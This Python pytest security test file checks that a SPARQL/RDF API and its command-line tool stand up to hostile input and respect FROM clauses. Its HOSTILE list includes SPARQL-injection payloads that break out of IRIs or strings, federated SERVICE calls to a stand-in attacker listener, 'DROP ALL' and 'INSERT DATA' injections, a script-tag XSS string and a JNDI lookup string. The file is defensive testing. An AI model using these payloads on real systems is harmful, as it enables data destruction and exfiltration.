"""Every route, fed hostile strings in every parameter: the answer is one the route documents in
OpenAPI, never a 5xx; nothing reaches a local listener; the store is unchanged; a query's own
dataset clause means what it says (FROM was once ignored, over HTTP and on the command line).

The strings are the ones the issue tried and those of the public SPARQL-injection references
(OWASP's injection cheat sheets applied to SPARQL: closing the IRI or the string a value is
spliced into, a comment to cut the rest, a second operation after ``;``, an escaped ``>``, a
federated query to the attacker's host, a cartesian product to tie up the engine).
"""

from __future__ import annotations

import json
import time
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.api.conftest import DATA, Server, load_store
from tests.graph.conftest import run_cli
from tests.security.conftest import Listener, store_dump

HOSTILE = [
    "state/RUS> ?p ?o } UNION { SERVICE <{url}> { ?s ?p ?o } } #",
    '" } UNION { SERVICE <{url}> { ?s ?p ?o } } #',
    "' } ; DROP ALL ; #",
    '\\" . ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } #',
    "\\u003E } SERVICE <{url}> {",
    'x") ) } ; INSERT DATA { <urn:a> <urn:b> <urn:c> } #',
    '2024-01-01"^^xsd:date) } UNION { SERVICE <{url}> {} } #',
    "<script>alert(1)</script><!--",
    "\x00\n\r",
    "   ",
    "A" * 10_000,
    "${jndi:ldap://{host}/a}",
]
SKIP = {"/docs", "/openapi.json"}


def _operations(spec: dict[str, Any]) -> list[tuple[str, str, list[dict[str, Any]], set[str]]]:
    out = []
    for path, operations in spec["paths"].items():
        if path in SKIP:
            continue
        for method, op in operations.items():
            if method not in ("get", "head"):
                continue  # the writes: below, without the token, and with it in test_outbound
            out.append((method.upper(), path, op.get("parameters", []), set(op["responses"])))
    return out


def _fill(value: str, listener: Listener) -> str:
    return value.replace("{url}", listener.url).replace("{host}", listener.url[len("http://") :])


def test_every_route_answers_hostile_parameters_as_documented(
    guarded: Server, listener: Listener
) -> None:
    before = store_dump(guarded.store_path)
    spec = httpx.get(guarded.url + "/openapi.json").json()
    operations = _operations(spec)
    assert len(operations) >= 15, [o[:2] for o in operations]
    seen = 0
    with httpx.Client(base_url=guarded.url, timeout=60) as client:
        for method, path, parameters, documented in operations:
            for raw in HOSTILE:
                value = _fill(raw, listener)
                if "{" in path:  # the hostile value as every path parameter
                    name = path[path.index("{") + 1 : path.index("}")].split(":")[0]
                    url = path.replace(
                        path[path.index("{") : path.index("}") + 1], quote(value, safe="")
                    )
                    cases = [(url, {}, name)]
                else:
                    cases = [(path, {p["name"]: value}, p["name"]) for p in parameters]
                for url, params, name in cases:
                    started = time.monotonic()
                    r = client.request(method, url, params=params)
                    took = time.monotonic() - started
                    said = f"{method} {path} {name}={raw[:40]!r}: {r.status_code} {r.text[:200]}"
                    assert r.status_code < 500, said
                    assert str(r.status_code) in documented, said
                    assert took < 10, said  # nothing ran to the time limit
                    seen += 1
    assert seen > 300
    assert listener.connections == 0
    assert store_dump(guarded.store_path) == before


@pytest.mark.parametrize("method", ["PUT", "POST", "DELETE"])
def test_writes_without_the_token_change_nothing(
    guarded: Server, listener: Listener, method: str
) -> None:
    before = store_dump(guarded.store_path)
    with httpx.Client(base_url=guarded.url, timeout=60) as client:
        for raw in HOSTILE[:7]:
            value = _fill(raw, listener)
            for url, params in (
                ("/rdf-graphs/service", {"graph": value}),
                ("/rdf-graphs/service", {"graph": "urn:x:g"}),
                ("/api/documents/" + quote(value, safe=""), {}),
            ):
                r = client.request(
                    method,
                    url,
                    params=params,
                    content=f"<urn:a> <urn:b> {value!r} .".encode(),
                    headers={"content-type": "text/turtle"},
                )
                assert r.status_code in (400, 403, 404, 405), (method, url, r.status_code, r.text)
    assert listener.connections == 0
    assert store_dump(guarded.store_path) == before


NONE = "SELECT (COUNT(*) AS ?n) FROM <urn:x:none> WHERE { ?s ?p ?o }"
NONE_NAMED = "SELECT (COUNT(*) AS ?n) FROM NAMED <urn:x:none> WHERE { GRAPH ?g { ?s ?p ?o } }"


def _count(answer: dict[str, Any]) -> int:
    return int(answer["results"]["bindings"][0]["n"]["value"])


@pytest.mark.parametrize("query", [NONE, NONE_NAMED])
def test_from_a_graph_that_does_not_exist_counts_nothing(
    guarded: Server, query: str, tmp_path: Path
) -> None:
    accept = {"accept": "application/sparql-results+json"}
    everything = httpx.get(
        guarded.sparql, params={"query": "SELECT (COUNT(*) AS ?n) { ?s ?p ?o }"}, headers=accept
    ).json()
    assert _count(everything) > 0
    over_http = httpx.get(guarded.sparql, params={"query": query}, headers=accept)
    assert over_http.status_code == 200 and _count(over_http.json()) == 0
    # the command line, on a store of its own (the server holds the guarded one's lock)
    load_store(tmp_path / "store", DATA / "fixture.trig")
    cli = run_cli("query", "--store", tmp_path / "store", "--format", "json", query)
    assert cli.returncode == 0, cli.stderr
    assert _count(json.loads(cli.stdout)) == 0
    whole = run_cli(
        "query",
        "--store",
        tmp_path / "store",
        "--format",
        "json",
        query.replace(" FROM <urn:x:none>", "").replace(" FROM NAMED <urn:x:none>", ""),
    )
    assert _count(json.loads(whole.stdout)) > 0
